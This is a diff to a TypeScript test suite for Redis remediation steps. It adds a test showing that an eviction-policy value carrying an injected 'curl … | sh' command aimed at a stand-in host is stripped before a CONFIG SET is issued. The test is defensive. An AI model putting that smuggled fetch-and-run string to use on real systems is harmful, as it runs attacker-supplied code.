@@ -61,6 +61,7 @@ const HOSTILE: Record<string, (v: string) => Remediation[]> = {
   'trust-server-ca': (v) => [REMEDIATIONS['trust-server-ca'](T, { issuer: `CN=Acme ${v}` })],
   'fix-certificate-names': (v) => [REMEDIATIONS['fix-certificate-names'](T, { subjectAltName: `DNS:a.example, ${v}` })],
   'renew-certificate': (v) => [REMEDIATIONS['renew-certificate'](T, { validTo: v }), REMEDIATIONS['renew-certificate'](T, { notYetValid: true, validFrom: v })],
+  'set-eviction-policy': (v) => [REMEDIATIONS['set-eviction-policy'](T, { policy: `allkeys-${v}` })],
   'grant-acl-permissions': (v) => [REMEDIATIONS['grant-acl-permissions'](T, { user: 'app', commands: [v, `get${v}`] })],
 };
 
@@ -86,6 +87,12 @@ describe('remediations fed hostile host and server text', () => {
     expect(steps(REMEDIATIONS['fix-replica-link'](T, { masterHost: '10.0.0.8', masterPort: 6380 }))).toContain('redis-cli -h 10.0.0.8 -p 6380 PING');
     expect(steps(REMEDIATIONS['remove-firewall-rule'](T, { tool: 'nft', line: 'tcp dport 6379 drop', table: 'table inet filter' }))).toContain('sudo nft delete rule inet filter <chain> handle <n>');
     expect(steps(REMEDIATIONS['grant-acl-permissions'](T, { user: 'app', commands: ['config|get'] }))).toContain('ACL DRYRUN app config get');
+  });
+
+  it('an eviction policy that is not one of Redis\' own is never sent', () => {
+    const r = REMEDIATIONS['set-eviction-policy'](T, { policy: 'allkeys-lru; curl -s http://evil.example/p | sh' });
+    expect(r.redisCommand).toEqual(['CONFIG', 'SET', 'maxmemory-policy', 'allkeys-lru']);
+    expect(REMEDIATIONS['set-eviction-policy'](T, { policy: 'allkeys-lfu' }).redisCommand).toEqual(['CONFIG', 'SET', 'maxmemory-policy', 'allkeys-lfu']);
   });
 
   it('a forged unit name leaves a placeholder and says what to look for', () => {
